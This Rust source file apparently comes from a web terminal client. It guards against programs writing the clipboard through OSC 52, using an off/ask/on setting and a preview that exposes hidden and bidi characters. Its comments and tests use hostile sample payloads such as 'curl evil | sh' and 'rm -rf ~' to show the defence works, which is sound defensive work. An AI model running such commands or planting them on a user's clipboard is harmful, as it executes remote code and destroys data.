//! What happens when a program in the session writes the clipboard (OSC 52).
//!
//! A program's output is not the person's choice: `cat` of a file, a `curl` page or an `ssh` to a
//! hostile host can print `ESC ] 52 ; c ; <base64> BEL` and plant `curl evil | sh` where the next
//! paste comes from. xterm refuses this by default; here it is a setting, "Programs may set the
//! clipboard":
//!
//! - `off`: never written; a notice says a program tried, with how long its text was, and
//!   nothing of the text;
//! - `ask` (the default): a notice shows the start of the text and asks; the clipboard is written
//!   only when the person clicks Copy;
//! - `on`: written, and a notice says so every time (a write never goes unseen).
//!
//! The page only carries out a [`RemoteCopy`]: writes (`on`), offers (`ask`) or tells (`off`),
//! showing `message` and `preview` as text.

/// The setting "Programs may set the clipboard".
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum RemoteCopyPolicy {
    Off,
    #[default]
    Ask,
    On,
}

impl RemoteCopyPolicy {
    /// The setting's stored name (`off`, `ask`, `on`); anything else is `None`.
    pub fn parse(name: &str) -> Option<Self> {
        match name {
            "off" => Some(RemoteCopyPolicy::Off),
            "ask" => Some(RemoteCopyPolicy::Ask),
            "on" => Some(RemoteCopyPolicy::On),
            _ => None,
        }
    }
}

/// What the page does with one OSC 52 write.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RemoteCopyAction {
    /// Not written; the notice says a program tried.
    Refused,
    /// Written only when the person clicks Copy on the notice.
    Ask,
    /// Written now; the notice says it was.
    Write,
}

impl RemoteCopyAction {
    /// The name the page's hook receives.
    pub fn as_str(self) -> &'static str {
        match self {
            RemoteCopyAction::Refused => "refused",
            RemoteCopyAction::Ask => "ask",
            RemoteCopyAction::Write => "write",
        }
    }
}

/// One OSC 52 write, decided.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RemoteCopy {
    pub action: RemoteCopyAction,
    /// What would go on the clipboard; empty when refused (the page never holds it then).
    pub text: String,
    /// Its length in characters.
    pub chars: usize,
    /// The notice's sentence.
    pub message: String,
    /// The start of the text with control and direction characters written out (`\n`, `\e`,
    /// `\u{202e}`), so what is shown is what would be pasted; empty unless asking.
    pub preview: String,
}

impl super::PageClient {
    /// A clipboard write or notification the relay sent (a program printed it; mosh-server
    /// drops it): the clipboard write goes through the same setting as mosh's own OSC 52; the
    /// notification goes to the page, which shows it when its setting and the tab allow.
    pub(super) fn signal(&mut self, signal: crate::relay_proto::PageSignal) {
        use crate::relay_proto::PageSignal;
        match signal {
            PageSignal::Clipboard { text } => {
                let copy = remote_copy(self.remote_copy, &text);
                self.push(super::Effect::Clipboard(copy));
            }
            PageSignal::Notify { title, body } => {
                self.push(super::Effect::Notify { title, body });
            }
            PageSignal::Link { url, text, col } => {
                self.push(super::Effect::Link { url, text, col });
            }
        }
    }
}

/// The preview shows at most this many characters of the text.
pub const PREVIEW_CHARS: usize = 80;

/// Decides one OSC 52 write of `text` under `policy` (see the module documentation).
pub fn remote_copy(policy: RemoteCopyPolicy, text: &str) -> RemoteCopy {
    let chars = text.chars().count();
    let n = characters(chars);
    match policy {
        RemoteCopyPolicy::Off => RemoteCopy {
            action: RemoteCopyAction::Refused,
            text: String::new(),
            chars,
            message: format!(
                "A program tried to copy {n} to the clipboard; the settings do not allow it."
            ),
            preview: String::new(),
        },
        RemoteCopyPolicy::Ask => RemoteCopy {
            action: RemoteCopyAction::Ask,
            text: text.to_string(),
            chars,
            message: format!("The program wants to copy {n}:"),
            preview: preview(text),
        },
        RemoteCopyPolicy::On => RemoteCopy {
            action: RemoteCopyAction::Write,
            text: text.to_string(),
            chars,
            message: format!("A program copied {n} to the clipboard."),
            preview: String::new(),
        },
    }
}

fn characters(n: usize) -> String {
    if n == 1 { "1 character".to_string() } else { format!("{n} characters") }
}

/// The first [`PREVIEW_CHARS`] characters of `text`, each that would not show as itself written
/// out, and `…` when there is more.
pub fn preview(text: &str) -> String {
    let mut out = String::new();
    for (i, c) in text.chars().enumerate() {
        if i == PREVIEW_CHARS {
            out.push('…');
            break;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\x1b' => out.push_str("\\e"),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() || hides_or_reorders(c) => {
                out.push_str(&format!("\\u{{{:x}}}", c as u32));
            }
            c => out.push(c),
        }
    }
    out
}

/// Characters that show as nothing, break the line or change the order of what follows (bidi
/// controls, zero widths, line and paragraph separators): shown as themselves, they would make
/// the preview lie about the text.
fn hides_or_reorders(c: char) -> bool {
    matches!(
        c,
        '\u{00ad}'
            | '\u{061c}'
            | '\u{180e}'
            | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2028}'..='\u{2029}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}'
            | '\u{feff}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ask_is_the_default_and_the_names_parse() {
        assert_eq!(RemoteCopyPolicy::default(), RemoteCopyPolicy::Ask);
        assert_eq!(RemoteCopyPolicy::parse("off"), Some(RemoteCopyPolicy::Off));
        assert_eq!(RemoteCopyPolicy::parse("ask"), Some(RemoteCopyPolicy::Ask));
        assert_eq!(RemoteCopyPolicy::parse("on"), Some(RemoteCopyPolicy::On));
        assert_eq!(RemoteCopyPolicy::parse("yes"), None);
    }

    #[test]
    fn off_keeps_nothing_of_the_text_and_says_how_long_it_was() {
        let c = remote_copy(RemoteCopyPolicy::Off, "curl evil | sh");
        assert_eq!(c.action, RemoteCopyAction::Refused);
        assert_eq!(c.text, "");
        assert_eq!(c.preview, "");
        assert_eq!(c.chars, 14);
        assert_eq!(
            c.message,
            "A program tried to copy 14 characters to the clipboard; the settings do not allow it."
        );
        assert!(!c.message.contains("curl"));
    }

    #[test]
    fn ask_offers_the_text_with_its_start_shown() {
        let c = remote_copy(RemoteCopyPolicy::Ask, "curl evil | sh");
        assert_eq!(c.action, RemoteCopyAction::Ask);
        assert_eq!(c.text, "curl evil | sh");
        assert_eq!(c.message, "The program wants to copy 14 characters:");
        assert_eq!(c.preview, "curl evil | sh");
        assert_eq!(
            remote_copy(RemoteCopyPolicy::Ask, "é").message,
            "The program wants to copy 1 character:"
        );
    }

    #[test]
    fn on_writes_and_says_so() {
        let c = remote_copy(RemoteCopyPolicy::On, "hello");
        assert_eq!(c.action, RemoteCopyAction::Write);
        assert_eq!(c.text, "hello");
        assert_eq!(c.message, "A program copied 5 characters to the clipboard.");
    }

    #[test]
    fn the_preview_writes_out_what_would_not_show_and_is_cut() {
        assert_eq!(preview("ls\n\x1b[2J\trm -rf ~\r"), "ls\\n\\e[2J\\trm -rf ~\\r");
        assert_eq!(
            preview("echo \u{202e}hs.live\u{200b}x\x07"),
            "echo \\u{202e}hs.live\\u{200b}x\\u{7}"
        );
        assert_eq!(preview("a\\b"), "a\\\\b");
        assert_eq!(preview("x\u{2028}y"), "x\\u{2028}y");
        let long = "x".repeat(PREVIEW_CHARS + 5);
        assert_eq!(preview(&long), format!("{}…", "x".repeat(PREVIEW_CHARS)));
        assert_eq!(preview(&"y".repeat(PREVIEW_CHARS)), "y".repeat(PREVIEW_CHARS));
    }

    /// What the relay sends of what mosh-server drops: a clipboard write goes by the same setting
    /// as mosh's own OSC 52; a notification and a link go to the page as they came.
    #[test]
    fn signals_from_the_relay_become_the_pages_effects() {
        use crate::page::{Effect, PageClient};
        use crate::relay_proto::PageSignal;
        let target = crate::relay_client::Target { token: "t".into(), bridge: None };
        let mut c = PageClient::new(target, crate::terminal::Size { cols: 80, rows: 24 }, 1);
        while c.poll_effect().is_some() {}
        let clip = || PageSignal::Clipboard { text: "curl evil | sh".into() };
        c.signal(clip());
        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
        assert_eq!(copy, remote_copy(RemoteCopyPolicy::Ask, "curl evil | sh"));
        c.set_remote_copy(RemoteCopyPolicy::Off);
        c.signal(clip());
        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
        assert_eq!((copy.action, copy.text.as_str()), (RemoteCopyAction::Refused, ""));
        c.set_remote_copy(RemoteCopyPolicy::On);
        c.signal(clip());
        let Some(Effect::Clipboard(copy)) = c.poll_effect() else { panic!("no clipboard effect") };
        assert_eq!(copy.action, RemoteCopyAction::Write);
        c.signal(PageSignal::Notify { title: "T".into(), body: "B".into() });
        assert!(
            matches!(c.poll_effect(), Some(Effect::Notify { title, body }) if title == "T" && body == "B")
        );
        c.signal(PageSignal::Link { url: "https://e.x/".into(), text: "e".into(), col: 2 });
        assert!(matches!(c.poll_effect(), Some(Effect::Link { col: 2, .. })));
        assert!(c.poll_effect().is_none());
    }
}
